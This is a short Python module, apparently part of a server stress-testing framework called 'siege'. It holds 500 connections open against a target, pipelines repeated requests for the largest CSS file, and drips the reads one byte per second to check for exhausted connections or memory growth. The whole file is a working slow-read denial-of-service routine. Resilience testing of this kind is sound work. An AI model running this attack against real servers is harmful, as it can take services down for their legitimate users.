"""Five hundred readers who ask for much and take it byte by byte."""

import re

import httpx

from siege import sockets
from siege.target import Target

_COUNT = 500
_ASKED_EACH = 60
_SECONDS = 60
_MOST_BYTES = 300 * 1024 * 1024  # of memory more than before


def attack(target: Target) -> list[str]:
    """Ask for the office's style sheet sixty times on each connection, and read a byte a second."""
    path = _stylesheet(target)
    asked = f"GET {path} HTTP/1.1\r\nHost: {target.address[0]}:{target.address[1]}\r\n\r\n".encode()
    before = target.memory()
    held = sockets.open_with(target, asked * _ASKED_EACH, count=_COUNT, buffer=4096)
    sockets.drip(held, seconds=_SECONDS, every=1)
    grown = target.memory() - before
    left = sockets.still_open(held)
    sockets.close(held)
    return [
        *([f"{left} of {_COUNT} connections are still open"] if left else []),
        *([f"the server grew by {grown >> 20} MiB"] if grown > _MOST_BYTES else []),
    ]


def _stylesheet(target: Target) -> str:
    """Return the longest, so that an answer is more than the system keeps for a connection."""
    page = httpx.get(f"{target.url}/account/sign-in/", timeout=30).text
    found: list[str] = re.findall(r'href="(/static/[^"]+\.css)"', page)
    return max(found, key=lambda path: len(httpx.get(f"{target.url}{path}", timeout=30).content))
